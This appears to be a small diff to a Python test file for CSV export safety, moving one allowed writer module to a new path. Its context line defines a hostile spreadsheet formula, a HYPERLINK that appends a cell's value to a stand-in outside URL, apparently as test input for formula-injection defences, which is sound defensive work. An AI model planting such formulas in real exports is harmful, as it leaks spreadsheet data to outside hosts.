@@ -26,7 +26,7 @@ HOSTILE = '=HYPERLINK("http://example.test/?"&B2,"Open")'
 STRIDE = Path(__file__).resolve().parents[2]
 # Files that may write CSV themselves: the one writer, and the HSDS data package, which is
 # read by other directory systems and must come back from an import byte for byte.
-CSV_WRITERS = {"core/spreadsheets.py", "resources/hsds.py"}
+CSV_WRITERS = {"core/spreadsheets.py", "resources/hsds/exporting.py"}
 
 
 def rows_of(response) -> list[list[str]]:
